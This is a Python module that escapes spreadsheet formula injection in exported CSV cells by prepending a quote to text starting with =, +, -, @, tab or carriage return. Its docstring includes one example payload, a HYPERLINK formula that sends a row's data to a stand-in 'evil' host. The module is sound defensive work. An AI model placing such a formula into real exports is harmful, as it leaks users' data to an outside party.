"""Spreadsheet formula injection: the one rule for every CSV/XLSX cell the product writes.

A spreadsheet program opening an export runs a cell that starts with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil/?"&A1,"Click")` in an address sends the row away), and a leading tab or carriage
return can hide such a start. Following OWASP ("CSV Injection"), such a text cell gets a leading single quote
`'`, which makes the program show it as text. See docs/formats.md, "Formulas in exported cells".

What is escaped and what is not:
- every text (`str`) cell that starts with one of `TRIGGERS` is escaped, whichever column it is in: names,
  addresses, reasons, and also the machine fields, whose formats (office code, ID number, dates, account
  digits, bank and outlet codes, tracking numbers, mobile phones `1[3-9]…`) never start with a trigger, so
  escaping leaves them exactly as the reading machine expects;
- numbers (`int`, `float`, `Decimal`) are values, not text: written as they are, a negative number stays a
  number (`-3`, not `'-3`). A column that carries a signed number must therefore be written as a number,
  never as pre-formatted text;
- empty cells and `None` stay empty.

Pure Python (no Django), so every exporter, whatever its app, uses the same rule.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def escape_cell(value):
    """`value` made safe for a spreadsheet cell: a text starting with a formula trigger gets a leading `'`;
    anything else (other text, numbers, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return QUOTE + value
    return value


def escape_row(row: Iterable) -> list:
    return [escape_cell(value) for value in row]


class SafeWriter:
    """`csv.writer` whose every row is escaped first; `writerow` returns what the csv writer returns (so it
    can stream through an object whose `write` returns the line)."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow(escape_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> SafeWriter:
    """The CSV writer for every export: like `csv.writer(stream, **options)`, with formulas escaped."""
    return SafeWriter(stream, **options)
